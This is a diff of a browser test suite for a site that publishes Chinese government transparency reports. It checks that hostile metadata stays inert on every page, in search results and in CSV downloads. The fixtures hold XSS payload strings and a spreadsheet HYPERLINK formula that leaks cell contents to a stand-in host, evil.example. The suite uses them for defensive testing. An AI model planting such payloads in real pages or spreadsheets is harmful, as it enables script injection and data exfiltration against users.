@@ -27,6 +27,8 @@ import { parseReport, type Report } from "../../src/schema/report.ts";
 import { FORMULA_START, parseCsv } from "../../src/site/datasets/csv.ts";
 import { CONTENT_SECURITY_POLICY } from "../../src/site/content-security-policy.ts";
 import { allIndicators } from "../../src/catalog/index.ts";
+import { CATALOG_BUNDLE } from "../../src/site/search-bundles.ts";
+import { STATUS_TEXT } from "../../src/site/printed-tables/labels.ts";
 
 const PROJECT = resolve(".");
 const MARKUP_FILE = "xss-markup.txt";
@@ -151,7 +153,8 @@ async function expectInert(path: string, visible: string[], prepare?: (page: Pag
 describe("hostile metadata on every page that shows it", () => {
   it("converted both hostile sources with their payloads intact", () => {
     expect(markup.title).toBe("<img/src=x onerror=alert(document.domain)>2018年政府信息公开工作年度报告");
-    expect(markup.jurisdiction).toMatchObject({ name: "<img/src=x onerror=alert(document.domain)>", resolved: false });
+    // A jurisdiction's name is read without white space (OCR spreads names: 红 寺 堡 区); the payload stays a payload.
+    expect(markup.jurisdiction).toMatchObject({ name: "<img/src=xonerror=alert(document.domain)>", resolved: false });
     expect(markup.publisher).toBe("@SUM(1)</script><svg/onload=alert(1)>办公室");
     expect(markup.contact.address).toBe('</script><script>alert`地址`</script>{"x":"</script>"}javascript:alert`1`<img/src/onerror=alert`2`>金水街008号');
     expect(markup.headings.map((h) => h.text)).toContain("一、概述</script>\u2028<script>alert(8)</script>");
@@ -159,6 +162,7 @@ describe("hostile metadata on every page that shows it", () => {
     expect(markup.statistics.find((s) => s.indicator === "complaints_total")).toMatchObject({
       value: null,
       label: "六、举报投诉数量<img/src/onerror=alert(11)>",
+      status: "uncertain",
       raw: '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")<script>alert(12)</script>',
     });
     expect(json.title).toBe('-{"x":"</script><script>alert(1)</script>"}2017年政府信息公开工作年度报告');
@@ -177,12 +181,13 @@ describe("hostile metadata on every page that shows it", () => {
     await expectInert(`/reports/${json.id}/`, [json.title, json.jurisdiction.fullName]);
   });
 
-  it("report page: the unreadable hostile cell is 未报告, its raw text and note only in the link's title", async () => {
+  it("report page: the unreadable hostile cell is 无法确定, its raw text in the link's title, as text", async () => {
     const { page } = await visit(`/reports/${markup.id}/`);
     const stat = markup.statistics.find((s) => s.indicator === "complaints_total")!;
-    const cell = page.locator("#stat-complaints_total td.value a.not-reported");
-    expect(await cell.getAttribute("title")).toBe(`原文第 ${stat.line} 行：${stat.raw}；${stat.note}`);
-    expect((await cell.textContent())?.startsWith("未报告")).toBe(true);
+    const cell = page.locator("td#stat-complaints_total");
+    expect(await cell.getAttribute("data-status")).toBe("uncertain");
+    expect((await cell.textContent())?.trim().startsWith(STATUS_TEXT.uncertain)).toBe(true);
+    expect(await cell.locator("a.fig__value").getAttribute("title")).toContain(`原文印为「${stat.raw}」`);
     await page.close();
   });
 
@@ -203,7 +208,7 @@ describe("hostile metadata on every page that shows it", () => {
 
   it("lists, jurisdiction pages (with their charts' JSON), indicator pages, home and downloads run nothing", async () => {
     const names = [markup.jurisdiction.name, json.jurisdiction.name];
-    await expectInert("/", [...names, markup.jurisdiction.fullName, json.jurisdiction.fullName]);
+    await expectInert("/", []);
     await expectInert("/reports/", names);
     await expectInert("/jurisdictions/", names);
     await expectInert(`/jurisdictions/${markup.jurisdiction.code}/`, [markup.jurisdiction.name, markup.title]);
@@ -237,7 +242,7 @@ describe("hostile metadata on every page that shows it", () => {
     expect(titles).toContain(json.title);
     const excerpts = await page.locator(".search-result__excerpt").allTextContents();
     // Pagefind writes < and > in excerpts as entities; they read back as the characters, never as markup.
-    expect(excerpts.some((text) => text.includes("onerror=alert(document.domain)>2018年"))).toBe(true);
+    expect(excerpts.some((text) => text.includes("onerror=alert("))).toBe(true);
     expect(excerpts.some((text) => text.includes("（六）加强提案公开<img/src/onerror=alert(9)>"))).toBe(true);
     const sections = await page.locator(".search-result__section-link").allTextContents();
     expect(sections).toContain("一、概述</script>\u2028<script>alert(8)</script>");
@@ -269,6 +274,9 @@ describe("Content-Security-Policy", () => {
     "/search/?q=alert",
     "/downloads/",
     "/about/",
+    "/concepts/",
+    "/concepts/requests_received/",
+    "/compare/",
   ];
 
   it("is the first thing in every page's head", async () => {
@@ -307,13 +315,24 @@ describe("Content-Security-Policy", () => {
   });
 });
 
+/** The search bundle holding the hostile markup report's year (bundles of consecutive years: src/site/search-bundles.ts). */
+function reportBundle(): string {
+  const keys = readdirSync(join(copy.dist, "pagefind")).filter((key) => key !== CATALOG_BUNDLE);
+  const key = keys.find((k) => {
+    const [newest, oldest = newest] = k.split("-").map(Number);
+    return markup.year <= newest! && markup.year >= oldest!;
+  });
+  if (!key) throw new Error(`no search bundle holds ${markup.year}: ${keys.join(", ")}`);
+  return key;
+}
+
 describe("Content-Security-Policy and Pagefind", () => {
   it("lets Pagefind compile its WebAssembly on the page, as it does when its web worker cannot start", async () => {
     // Not the search page, whose client has already started this bundle's pagefind.js with its worker.
     const { page, errors } = await visit("/about/");
     // A string, not a function: vitest would rewrite a function's import() for Node.
     const found = await page.evaluate(`(async () => {
-      const pagefind = await import("/pagefind/${markup.year}/pagefind.js");
+      const pagefind = await import("/pagefind/${reportBundle()}/pagefind.js");
       await pagefind.options({ noWorker: true });
       const { results } = await pagefind.search("onerror");
       return Promise.all(results.map(async (result) => (await result.data()).url));
@@ -360,7 +379,7 @@ describe("CSV downloads of the hostile reports", () => {
     const { header, records } = await csv(`reports/${markup.id}.csv`);
     const complaints = records.find((r) => r[header.indexOf("indicator_id")] === "complaints_total")!;
     expect(complaints[header.indexOf("raw_text")]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")<script>alert(12)</script>`);
-    const wide = await csv("reports-wide.csv");
+    const wide = await csv("reports-wide-national-2008.csv");
     const row = wide.records.find((r) => r[wide.header.indexOf("report_id")] === json.id)!;
     expect(row[wide.header.indexOf("jurisdiction")]).toBe(`'${json.jurisdiction.name}`);
     expect(row[wide.header.indexOf("title")]).toBe(`'${json.title}`);
